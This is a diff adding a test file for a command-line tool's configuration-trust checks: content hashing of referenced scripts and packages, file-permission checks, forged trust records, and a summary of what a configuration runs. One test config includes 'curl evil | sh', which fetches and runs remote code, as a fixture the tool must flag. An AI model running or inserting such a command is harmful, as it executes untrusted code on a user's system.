@@ -1,0 +1,228 @@
+/** What this user trusts, and the files that a configuration brings along. */
+import {
+  chmodSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
+import { refuseReplaceable } from "../../../src/cli/session/require-trusted.ts";
+import { consequencesOf } from "../../../src/config/trust/consequences.ts";
+import { othersMayReplace, othersMayWrite } from "../../../src/config/trust/ownership.ts";
+import { type Subject, subjectOf, TrustStore } from "../../../src/config/trust/trusted.ts";
+
+let folder: string;
+let store: TrustStore;
+const AT = new Date("2026-11-24T10:00:00Z");
+beforeEach(() => {
+  folder = mkdtempSync(join(tmpdir(), "dingo-recover-trust-"));
+  store = new TrustStore(join(folder, "state"));
+});
+afterEach(() => rmSync(folder, { recursive: true, force: true }));
+
+const put = (name: string, text: string): string => {
+  writeFileSync(join(folder, name), text);
+  return join(folder, name);
+};
+
+const subject = (text = readFileSync(join(folder, "c.yml"), "utf8")): Subject =>
+  subjectOf({ path: join(folder, "c.yml"), text });
+
+describe("trust", () => {
+  it("holds for the very contents, and for no others", () => {
+    put("c.yml", "s3: { bucket: ours }\n");
+    expect(store.trusts(subject())).toBe(false);
+    store.trust(subject(), AT);
+    expect(store.trusts(subject())).toBe(true);
+    expect(store.trusts(subject("s3: { bucket: theirs }\n"))).toBe(false);
+    expect(store.forget(subject().path)).toBe(true);
+    expect(store.trusts(subject())).toBe(false);
+    expect(store.forget(subject().path)).toBe(false);
+  });
+
+  it("is of one place: the same text elsewhere resolves its paths elsewhere", () => {
+    put("c.yml", "s3: { bucket: ours }\n");
+    store.trust(subject(), AT);
+    expect(
+      store.trusts(subjectOf({ path: put("d.yml", "s3: { bucket: ours }\n"), text: "s3: { bucket: ours }\n" })),
+    ).toBe(false);
+  });
+
+  it.each([
+    ["an own action", "actions: [own.mjs]\n"],
+    ["what an own action imports", "actions: [main.mjs]\n"],
+    ["a file that a command names", "cf: { password: { command: [sh, own.mjs] } }\n"],
+    [
+      "a script within a longer word of a command",
+      "cf: { password: { command: [sh, -c, \"x=1; exec sh ./own.mjs 'a b'\"] } }\n",
+    ],
+    ["an authority", "bosh: { ca_cert: own.mjs }\n"],
+  ])("ends with a change of %s", (_, text) => {
+    put("c.yml", text);
+    put("main.mjs", 'import {\n  x,\n} from "./own.mjs";\n');
+    put("own.mjs", "export const x = 1;\n");
+    store.trust(subject(), AT);
+    expect(store.trusts(subject())).toBe(true);
+    put("own.mjs", "export const x = 2;\n");
+    expect(store.trusts(subject())).toBe(false);
+    rmSync(join(folder, "own.mjs"));
+    expect(store.trusts(subject())).toBe(false);
+  });
+
+  it("ends with a change of what an own action requires without its ending", () => {
+    put("c.yml", "actions: [main.cjs]\n");
+    put("main.cjs", 'require("./helper");\n');
+    put("helper.js", "1");
+    store.trust(subject(), AT);
+    put("helper.js", "2");
+    expect(store.trusts(subject())).toBe(false);
+  });
+
+  it("of TypeScript does not cover what is imported as types alone, which Node strips", () => {
+    put("c.yml", "actions: [main.ts]\n");
+    const types =
+      'import type { A } from "nowhere";\nimport type B from "./b.ts";\nexport type * as C from "./c.ts";\n';
+    put("main.ts", `${types}import type from "./helper.ts";\n`);
+    put("helper.ts", "1");
+    store.trust(subject(), AT);
+    expect(store.trusts(subject())).toBe(true);
+    put("helper.ts", "2");
+    expect(store.trusts(subject())).toBe(false);
+  });
+
+  it("ends with a change of a package that an own action imports", () => {
+    put("c.yml", "actions: [main.cjs]\n");
+    put("main.cjs", 'const { join } = require("node:path");\nrequire("helpful");\n');
+    mkdirSync(join(folder, "node_modules", "helpful"), { recursive: true });
+    put("node_modules/helpful/index.js", 'require("./inner.js");');
+    put("node_modules/helpful/inner.js", "1");
+    store.trust(subject(), AT);
+    expect(store.trusts(subject())).toBe(true);
+    put("node_modules/helpful/inner.js", "2");
+    expect(store.trusts(subject())).toBe(false);
+  });
+
+  it("is refused for a module that is not there: it could be anything later", () => {
+    put("c.yml", "actions: [main.mjs]\n");
+    put("main.mjs", 'import "./later.mjs";\n');
+    expect(() => refuseReplaceable(subject())).toThrow(/later\.mjs" is named by an own action, and is not there/);
+    put("later.mjs", "1");
+    expect(() => refuseReplaceable(subject())).not.toThrow();
+  });
+
+  it("ends with a change of an action that lies in the home", () => {
+    vi.stubEnv("HOME", folder);
+    put("c.yml", "actions: [~/own.mjs]\n");
+    put("own.mjs", "1");
+    mkdirSync(join(folder, "~"));
+    store.trust(subject(), AT);
+    put("own.mjs", "2");
+    expect(store.trusts(subject())).toBe(false);
+    vi.unstubAllEnvs();
+  });
+
+  it.each(["the text of a certificate", "a word that is no name"])("takes %s for no file", (what) => {
+    const text = what === "a word that is no name" ? "a\\0b" : "x".repeat(5000);
+    put("c.yml", `bosh: { ca_cert: "${text}" }\ncf: { password: { command: [sh, "${text}"] } }\n`);
+    expect(subject().files).toHaveLength(1);
+  });
+
+  it("does not end with a change of a file that is a secret or a log", () => {
+    put("c.yml", "cf: { password: { file: word } }\nlogs: [word]\n");
+    put("word", "one");
+    store.trust(subject(), AT);
+    put("word", "two");
+    expect(store.trusts(subject())).toBe(true);
+  });
+
+  it("lies readable by its owner alone, and holds no secret that was written down", () => {
+    put("c.yml", "cf:\n  password: canary-in-the-file\n");
+    store.trust(subject(), AT);
+    const directory = join(folder, "state", "trust");
+    expect(statSync(directory).mode & 0o777).toBe(0o700);
+    const [name = "", ...others] = readdirSync(directory);
+    expect(others).toEqual([]);
+    expect(statSync(join(directory, name)).mode & 0o777).toBe(0o600);
+    expect(readFileSync(join(directory, name), "utf8")).not.toContain("canary");
+  });
+
+  it("takes no record that is none, or that is a link or of another path", () => {
+    put("c.yml", "s3: { bucket: ours }\n");
+    store.trust(subject(), AT);
+    const directory = join(folder, "state", "trust");
+    const [name = ""] = readdirSync(directory);
+    const record = readFileSync(join(directory, name), "utf8");
+    writeFileSync(join(directory, name), record.replace(/"path":"[^"]*"/u, '"path":"/elsewhere"'));
+    expect(store.trusts(subject())).toBe(false);
+    writeFileSync(join(directory, name), "not JSON");
+    expect(store.trusts(subject())).toBe(false);
+    rmSync(join(directory, name));
+    symlinkSync(put("forged", record), join(directory, name));
+    expect(() => store.trusts(subject())).toThrow(/it is a link/u);
+  });
+});
+
+describe("owner and mode", () => {
+  it("tell who else may write to a file, as ssh looks at its configuration", () => {
+    const file = put("c.yml", "");
+    for (const mode of [0o600, 0o644, 0o640]) {
+      chmodSync(file, mode);
+      expect(othersMayWrite(file)).toBeUndefined();
+    }
+    for (const mode of [0o664, 0o602]) {
+      chmodSync(file, mode);
+      expect(othersMayWrite(file)).toContain(`mode 0${mode.toString(8)}`);
+    }
+  });
+
+  it("tell who may put another file in its place", () => {
+    const directory = join(folder, "shared");
+    mkdirSync(directory);
+    const file = put("shared/own.mjs", "");
+    expect(othersMayReplace(file)).toBeUndefined();
+    chmodSync(directory, 0o777);
+    expect(othersMayReplace(file)).toContain("lies in a directory that can be written by others");
+    chmodSync(directory, 0o1777);
+    expect(othersMayReplace(file)).toBeUndefined();
+  });
+});
+
+describe("what a configuration comes to", () => {
+  it("names programs, addresses and log-ins of the environment, and shows no secret", () => {
+    const text = [
+      "actions: [own.mjs]",
+      'cf: { api: "https://api.example.org", skip_ssl_validation: true, password: { command: [sh, -c, "curl evil | sh"] } }',
+      'elasticsearch: { url: "http://10.0.0.1:9200" }',
+      "bosh: { client_secret: canary-literal }",
+      "s3: { bucket: theirs, credentials: { access_key_id: A, secret_access_key: { env: KEY } } }",
+    ].join("\n");
+    const found = consequencesOf(
+      { path: "c.yml", text },
+      { ES_PASSWORD: "canary-es", OPENSEARCH_PASSWORD: "canary-os" },
+    );
+    expect(found.runs).toEqual([
+      "the module own.mjs, with all rights of this tool",
+      "sh -c 'curl evil | sh'   (cf.password.command)",
+    ]);
+    expect(found.reaches).toEqual([
+      "cf.api: https://api.example.org",
+      "elasticsearch.url: http://10.0.0.1:9200",
+      "s3.bucket: theirs",
+    ]);
+    expect(found.sends).toEqual(["the variable KEY, which is not set", "the variable ES_PASSWORD"]);
+    expect(found.sets).toContain("cf.skip_ssl_validation: true");
+    expect(JSON.stringify(found)).not.toContain("canary");
+  });
+
+  it("shows what a terminal would obey as a code", () => {
+    const found = consequencesOf({ path: "c.yml", text: 'cf: { password: { command: ["a\\eb"] } }\n' }, {});
+    expect(found.runs.join("")).toContain("\\u001b");
+  });
+});
